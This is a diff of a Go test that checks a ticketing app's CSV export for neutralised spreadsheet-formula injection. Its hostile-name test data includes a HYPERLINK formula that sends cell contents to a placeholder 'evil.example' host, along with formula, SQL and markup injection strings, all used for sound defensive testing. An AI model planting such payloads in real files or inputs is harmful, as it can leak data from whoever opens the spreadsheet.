@@ -1,12 +1,13 @@
 package httpapi_test
 
 import (
-	"encoding/csv"
 	"fmt"
 	"net/http"
 	"strings"
 	"testing"
 	"time"
+
+	"github.com/lastseat/lastseat/internal/sheet"
 )
 
 type entry struct {
@@ -182,20 +183,24 @@ func TestLine_of_people_with_hostile_names(t *testing.T) {
 	t.Parallel()
 	s := start(t, place{})
 	s.addRun("go-1", seats(3), withList(seats(1)))
-	people := []struct{ name, email, cell, emailCell string }{
-		{name: "=1+1", email: "=cmd@example.org", cell: "'=1+1", emailCell: "'=cmd@example.org"},
-		{name: "+44 (0)", email: "+x@example.org", cell: "'+44 (0)", emailCell: "'+x@example.org"},
-		{name: "-2", email: "-x@example.org", cell: "'-2", emailCell: "'-x@example.org"},
-		{name: "@SUM(A1)", email: "at@example.org", cell: "'@SUM(A1)"},
-		{name: `=HYPERLINK("http://evil.example?x="&A1,"click, me")`, email: "link@example.org", cell: `'=HYPERLINK("http://evil.example?x="&A1,"click, me")`},
-		{name: `Robert "Bobby"; DROP TABLE`, email: "bobby@example.org"},
-		{name: `a,b;c|d`, email: "comma@example.org"},
-		{name: `</script><b>&amp;`, email: "markup@example.org"},
-		{name: "👩‍👩‍👧 𝒜", email: "emoji@example.org"},
-		{name: "עדה לאבלייס", email: "rtl@example.org"},
-		{name: `"`, email: "quote@example.org"},
-		{name: `\`, email: "backslash@example.org"},
-		{name: "'=x", email: "'x@example.org"},
+	people := []struct{ name, email string }{
+		{"=1+1", "=cmd@example.org"},
+		{"＝1+1", "1e5@example.org"},
+		{"Eva;=1+1;", "eva@example.org"},
+		{"007", "007@example.org"},
+		{"+44 (0)", "+x@example.org"},
+		{"-2", "-x@example.org"},
+		{"@SUM(A1)", "at@example.org"},
+		{`=HYPERLINK("http://evil.example?x="&A1,"click, me")`, "link@example.org"},
+		{`Robert "Bobby"; DROP TABLE`, "bobby@example.org"},
+		{`a,b;c|d`, "comma@example.org"},
+		{`</script><b>&amp;`, "markup@example.org"},
+		{"👩‍👩‍👧 𝒜", "emoji@example.org"},
+		{"עדה לאבלייס", "rtl@example.org"},
+		{`"`, "quote@example.org"},
+		{`\`, "backslash@example.org"},
+		{"'=x", "'x@example.org"},
+		{"''=1+1", "x@example.org"},
 	}
 	for _, p := range people {
 		s.register("go-1", p.name, p.email)
@@ -220,22 +225,29 @@ func TestLine_of_people_with_hostile_names(t *testing.T) {
 	if strings.Count(text, "\n") != strings.Count(text, "\r\n") || strings.Count(text, "\r\n") != len(people)+2 || !strings.HasSuffix(text, "\r\n") {
 		t.Errorf("the lines do not end as they must:\n%q", text)
 	}
-	rows, err := csv.NewReader(strings.NewReader(text)).ReadAll()
+	for _, cell := range []string{`,'=1+1,`, `,"Eva;'=1+1;",`, ",'＝1+1,", ",'007,", ",007@example.org,", ",''=x,"} {
+		if !strings.Contains(text, cell) {
+			t.Errorf("%s is missing in\n%s", cell, text)
+		}
+	}
+	r, err := sheet.NewReader(strings.NewReader(string(a.body)))
 	if err != nil {
 		t.Fatal(err)
+	}
+	var rows [][]string
+	for range len(people) + 2 {
+		row, err := r.Read()
+		if err != nil {
+			t.Fatal(err)
+		}
+		rows = append(rows, row)
 	}
 	if got := strings.Join(rows[0], " "); got != "ticket kind status reason accepted_at decided_at changed_at name email target by_organiser change" {
 		t.Errorf("the header is %s", got)
 	}
 	for i, p := range people {
 		row := rows[i+1]
-		if p.cell == "" {
-			p.cell = p.name
-		}
-		if p.emailCell == "" {
-			p.emailCell = p.email
-		}
-		if row[0] != fmt.Sprint(i+1) || row[7] != p.cell || row[8] != p.emailCell || row[10] != "false" || row[11] != "" {
+		if row[0] != fmt.Sprint(i+1) || row[7] != p.name || row[8] != p.email || row[10] != "false" || row[11] != "" {
 			t.Errorf("got %q, want %+v", row, p)
 		}
 		if _, err := time.Parse(time.RFC3339Nano, row[4]); err != nil {
